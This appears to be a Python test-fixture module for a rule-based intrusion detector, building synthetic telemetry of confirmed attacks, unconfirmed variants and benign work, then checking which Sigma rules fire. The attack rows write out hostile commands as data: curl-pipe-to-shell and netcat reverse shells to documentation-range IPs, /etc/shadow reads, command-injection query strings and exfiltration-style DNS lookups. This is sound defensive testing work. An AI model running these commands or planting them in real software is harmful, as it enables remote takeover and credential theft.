"""Confirmed finds of five kinds, variants of them that nobody confirmed, and ordinary work."""

from __future__ import annotations

import random
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import numpy as np
from made_events import START, Event, batch_of, day_of_work, lay

from lichen.core import ocsf
from lichen.core.alert import Alert
from lichen.core.batch import Batch, Rows
from lichen.core.entity import Subject
from lichen.detect.rules.detector import RulesDetector
from lichen.detect.rules.ruleset import RuleSet
from lichen.share.fields import Ground, grounds_of

ALERT = Alert(
    "4f6b1c0d9a8e7b21",
    Subject("workload", "orders-2"),
    "2026-11-18",
    "malicious",
    "orders-2 ran a shell",
    (),
    START,
    START,
    ("T1059.004",),
    {"profile.pair": "v1", "rules": "v9"},
)
PYTHON, DASH = "/usr/bin/python3.11", "/usr/bin/dash"


def ran(image: str, line: str, parent: str = PYTHON, user: str = "www-data") -> tuple[str, dict[str, Any]]:
    view = {"process.file.path": image, "process.cmd_line": line, "actor.process.file.path": parent}
    return "exec", {**view, "actor.user.name": user, "process.working_directory": "/srv/app"}


def touched(path: str, actor: str, how: int = ocsf.CREATE) -> tuple[str, dict[str, Any]]:
    view = {"file.path": path, "actor.process.file.path": actor, "actor.user.name": "www-data"}
    return "file", {**view, "activity_id": how}


def connected(address: str, port: int, actor: str) -> tuple[str, dict[str, Any]]:
    view = {"dst_endpoint.ip": address, "dst_endpoint.port": port, "actor.process.file.path": actor}
    return "net", {**view, "actor.user.name": "www-data"}


def requested(path: str, query: str, agent: str = "shop/1.0", code: int = 200) -> tuple[str, dict[str, Any]]:
    view = {"http_request.http_method": "GET", "http_request.url.path": path, "http_request.url.query_string": query}
    return "http", {**view, "http_request.user_agent": agent, "http_response.code": code, "actor.user.name": "alice"}


def asked(name: str, kind: str = "A") -> tuple[str, dict[str, Any]]:
    return "dns", {"query.hostname": name, "query.type": kind, "src_endpoint.ip": "10.77.0.21"}


# category -> (what was confirmed, variants of it that were not seen)
FINDS: dict[str, tuple[list[tuple[str, dict[str, Any]]], list[tuple[str, dict[str, Any]]]]] = {
    "process_creation": (
        [
            ran(DASH, "sh -c curl -s 203.0.113.9:4444/x|sh"),
            ran(DASH, "sh -c mknod /tmp/p p; nc 203.0.113.9 4444 </tmp/p"),
        ],
        [ran(DASH, "sh -c busybox nc 198.51.100.77 9001"), ran(DASH, "sh -c fetch 198.51.100.3:81 >/tmp/z")],
    ),
    "file_event": (
        [touched("/usr/bin/.kx7", "/usr/bin/curl"), touched("/usr/bin/.sshd", DASH)],
        [touched("/usr/bin/.a1b2", "/usr/bin/wget"), touched("/usr/bin/.x", PYTHON)],
    ),
    "file_access": (
        [touched("/etc/shadow", "/usr/bin/cat", ocsf.READ), touched("/etc/shadow", "/usr/bin/tar", ocsf.READ)],
        [touched("/etc/shadow", PYTHON, ocsf.READ), touched("/etc/shadow", "/usr/bin/getent", ocsf.READ)],
    ),
    "network_connection": (
        [connected("203.0.113.9", 4444, PYTHON), connected("203.0.113.77", 8081, PYTHON)],
        [connected("198.51.100.14", 31337, PYTHON), connected("192.0.2.8", 9443, PYTHON)],
    ),
    "webserver": (
        [requested("/api/quote", "sku=7;id"), requested("/api/quote", "sku=9%3Bwhoami")],
        [requested("/api/quote", "sku=1%7Cuname"), requested("/api/quote", "sku=4;wget+x")],
    ),
    "dns": (
        [asked(f"{'a1b2c3d4e5f60718' * 2}{i}.evil.test") for i in range(3)],
        [asked(f"{'0f9e8d7c6b5a4938' * 2}{i}.bad.example") for i in range(3)],
    ),
}


def laid(rows: Sequence[tuple[str, dict[str, Any]]], who: str = "orders-2") -> list[Batch]:
    """Batches, one a kind, of these events."""
    events = lay([(kind, START + i * 1_000_000, who, view) for i, (kind, view) in enumerate(rows)])
    return batches_of(events)


def batches_of(events: Sequence[Event]) -> list[Batch]:
    kinds = dict.fromkeys(event.kind for event in events)
    return [batch_of([event for event in events if event.kind == kind]) for kind in kinds]


def confirmed(rows: Sequence[tuple[str, dict[str, Any]]]) -> list[tuple[Batch, Rows]]:
    return [(batch, np.arange(len(batch))) for batch in laid(rows)]


def ordinary(seed: int = 1, count: int = 1500) -> list[Batch]:
    """Ordinary work, with what looks a little like the attacks: shells, hidden files, odd calls, long names."""
    chance = random.Random(seed)
    rows: list[tuple[str, dict[str, Any]]] = []
    for i in range(count // 5):
        rows += [
            ran(DASH, f"sh -c gzip -9 /var/app/report-{i}.csv"),
            ran("/usr/bin/ssh", f"ssh 10.77.0.{chance.randrange(2, 250)} uptime", "/usr/bin/bash", "root"),
            touched(chance.choice([f"/usr/bin/tool{i % 7}.dpkg-new", f"/home/ada/.cache{i % 9}"]), "/usr/bin/dpkg"),
            touched("/etc/login.defs", chance.choice(["/usr/bin/su", "/usr/bin/cat"]), ocsf.READ),
            touched(f"/etc/ssl/{i % 5}.pem", PYTHON, ocsf.READ),
            connected("10.77.0.31", 5432, PYTHON),
            connected("93.184.216.34", 443, "/usr/lib/apt/methods/http"),
            requested("/api/quote", f"sku={i % 50}"),
            requested(f"/api/orders/{i}", "note=it's;fine" if i % 40 == 0 else "expand=items"),
            asked(chance.choice(["db-1.lab.test", "orders-1.lab.test"])),
            asked("long-name-of-a-content-server-17.cdn.example"),
        ]
    return [*laid(rows, "orders-1"), *batches_of(day_of_work(seed, 300))]


def ground(seed: int = 1) -> dict[str, Ground]:
    return grounds_of(ordinary(seed))


def hits(sigma: str, batches: Sequence[Batch], folder: Path) -> list[list[int]]:
    """Rows of each batch that a rule fires on, in the real engine."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "rule.yml").write_text(sigma, encoding="utf-8")
    rules = RuleSet.load([folder / "rule.yml"])
    assert rules.refused == (), rules.refused
    detector = RulesDetector(rules, minutes=60)
    found = []
    for batch in batches:
        fired = []
        for row in range(len(batch)):
            evidence, _, _ = detector.detect(batch.take(np.array([row])), {})
            if any(one.detector.endswith(rules.rules[0].id) for one in evidence):
                fired.append(row)
        found.append(fired)
    return found
